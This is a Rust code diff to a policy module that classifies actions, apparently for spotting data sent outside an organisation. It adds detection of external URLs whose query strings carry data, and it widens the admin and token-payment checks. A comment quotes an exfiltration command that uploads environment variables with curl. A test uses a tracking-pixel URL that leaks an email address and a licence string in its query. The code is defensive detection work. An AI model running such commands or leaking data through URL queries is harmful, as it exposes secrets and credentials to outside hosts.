@@ -7,7 +7,7 @@ use std::collections::BTreeSet;
 use openshell_policy::normalize_api_name;
 use openshell_policy::wire::{ActionRequest, Reversibility};
 
-use crate::content::{ContentSignals, Intent, Signal, SignalKind};
+use crate::content::{ContentSignals, Intent, Signal, SignalKind, query_carries_data};
 use crate::destination::{
     DestinationAnalyzer, DestinationForm, DestinationInfo, channel_name, marked_outside,
 };
@@ -204,7 +204,13 @@ impl ActionFacts {
         // Reading an outside URL the text fills with data (`…/collect?d=` and the rest), or
         // adding or running a command that uploads data to one (`curl -d "$(env)" https://…`),
         // sends that data to its host.
-        let fills_url = content.intent(Intent::UrlForData).is_some();
+        let fills_url = content.intent(Intent::UrlForData).is_some()
+            || destination
+                .as_ref()
+                .zip(request.destination.as_deref())
+                .is_some_and(|(d, url)| {
+                    d.external && d.form == DestinationForm::Url && query_carries_data(url)
+                });
         // Setting up a copy of everything at an outside URL (`add github.com/x/y as a remote
         // and push all branches to it`), or writing out a whole file's contents to an outside
         // destination (a form posted to `formspree.io`), sends it there.
@@ -282,7 +288,9 @@ impl ActionFacts {
                 // Pushing or applying a change to code or infrastructure that lets someone in
                 // (an SSH key added to an account, an admin role granted), or installing
                 // something with it (an app granted admin consent), changes who has access.
-                VerbClass::Send if invites && matches!(kind.as_str(), "code" | "ci" | "deploy") => {
+                VerbClass::Send
+                    if invites && matches!(kind.as_str(), "code" | "ci" | "deploy" | "web") =>
+                {
                     Some((VerbClass::Admin, PartiallyReversible))
                 }
                 VerbClass::Execute if invites => Some((VerbClass::Admin, PartiallyReversible)),
@@ -363,12 +371,12 @@ impl ActionFacts {
         self.verb_meaning.map_or(VerbClass::Unknown, |m| m.class)
     }
 
-    /// Whether the action pays less than one unit (`£0.01`): such a payment moves no value,
-    /// and what it carries to the payee is its reference.
+    /// Whether the action pays one unit or less (`£0.01`, `£1` for a payee check): such a
+    /// payment moves no value, and what it carries to the payee is its reference.
     pub fn pays_token_amount(&self) -> bool {
         self.verb_class() == VerbClass::Pay
             && self.amount_known
-            && (1..100).contains(&self.amount_cents)
+            && (1..=100).contains(&self.amount_cents)
     }
 
     /// Whether the action reaches outside the organisation: its destination is external; or
@@ -836,11 +844,11 @@ mod tests {
                     .with_home_countries(&["GB".into()]),
             )
         };
-        for amount in [0.01, 0.99] {
+        for amount in [0.01, 0.99, 1.0] {
             assert!(pay(amount).pays_token_amount(), "{amount}");
             assert!(pay(amount).external(), "{amount}");
         }
-        for amount in [0.0, 1.0, 250.0] {
+        for amount in [0.0, 1.5, 250.0] {
             assert!(!pay(amount).pays_token_amount(), "{amount}");
             assert!(!pay(amount).external(), "{amount}");
         }
@@ -879,6 +887,18 @@ mod tests {
         assert_eq!(f.verb_class(), VerbClass::Send, "a verb the taxonomy lacks");
         let f = ActionFacts::derive(&request("GET https://news.example.net/item?id=42"), &d);
         assert_eq!(f.verb_class(), VerbClass::Unknown);
+        // The destination's own query, with nothing in the text.
+        let pixel = |destination: &str| ActionRequest {
+            destination: Some(destination.into()),
+            ..visit("Loading the header image for the newsletter preview")
+        };
+        let f = ActionFacts::derive(
+            &pixel("https://img.trk-pixel.net/p.gif?u=j.wade%40company.com&k=Sp0nsor%21Lic24"),
+            &d,
+        );
+        assert_eq!(f.verb_class(), VerbClass::Send);
+        let f = ActionFacts::derive(&pixel("https://img.trk-pixel.net/p.gif?w=600"), &d);
+        assert_eq!(f.verb_class(), VerbClass::Read);
     }
 
     #[test]
